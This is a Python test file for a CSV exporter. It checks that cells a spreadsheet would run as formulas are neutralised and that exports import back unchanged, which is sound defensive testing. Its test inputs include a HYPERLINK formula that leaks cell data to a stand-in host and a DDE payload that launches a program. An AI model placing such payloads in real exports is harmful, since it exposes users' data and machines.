"""Exported cells never run as formulas in a spreadsheet, and an export imported back is the
stack it came from, cell for cell."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core import stackfile
from core.cells import TRIGGERS, neutralise, restore
from core.importing import COLUMNS


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("https://example.com/?leak="&A1,"Open")', "'=HYPERLINK(\"https://exa"),
        ("+1 tools", "'+1 tools"),
        ("-ops", "'-ops"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=already quoted", "''=already quoted"),
        ("'tis a name", "''tis a name"),
        ("vLLM", "vLLM"),
        ("Weights & Biases", "Weights & Biases"),
        ("", ""),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(cell: str, written: str) -> None:
    assert neutralise(cell).startswith(written)
    assert restore(neutralise(cell)) == cell


def test_every_formula_character_is_neutralised() -> None:
    for trigger in TRIGGERS:
        assert neutralise(trigger + "x")[0] == "'"


def test_a_hand_written_apostrophe_before_an_ordinary_letter_is_kept() -> None:
    assert restore("'tis") == "'tis"
    assert restore("'") == "'"


@given(st.text())
def test_restore_undoes_neutralise_for_any_text(cell: str) -> None:
    assert restore(neutralise(cell)) == cell


@given(st.text())
def test_a_neutralised_cell_never_begins_with_a_formula_character(cell: str) -> None:
    assert not neutralise(cell).startswith(TRIGGERS)


def export(rows: list[dict[str, str]]) -> bytes:
    """A CSV file as an exporter writes one, each cell neutralised."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows({column: neutralise(cell) for column, cell in row.items()} for row in rows)
    return out.getvalue().encode()


def test_names_that_begin_with_a_sign_come_back_exactly() -> None:
    names = ["-ops", "+1 tools", "=cmd|' /C calc'!A0", "@here", "'quoted", "''twice", "plain"]
    rows = [dict.fromkeys(COLUMNS, "") | {"name": name, "notes": "-1 vote"} for name in names]
    read = [cells for _, cells in stackfile.records(io.BytesIO(export(rows)))]
    assert [cells["name"] for cells in read] == names
    assert {cells["notes"] for cells in read} == {"-1 vote"}


# Cells as the reader keeps them: stripped, and without the characters that are not text.
cell_text = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))
cells = cell_text.filter(lambda text: text == text.strip())


@settings(max_examples=50)
@given(st.lists(st.tuples(cells.filter(bool), cells, cells), min_size=1, max_size=5))
def test_any_export_imports_back_to_the_same_cells(rows: list[tuple[str, str, str]]) -> None:
    written = [
        dict.fromkeys(COLUMNS, "") | {"name": name, "vendor": vendor, "notes": notes}
        for name, vendor, notes in rows
    ]
    read = [cells for _, cells in stackfile.records(io.BytesIO(export(written)))]
    assert read == written
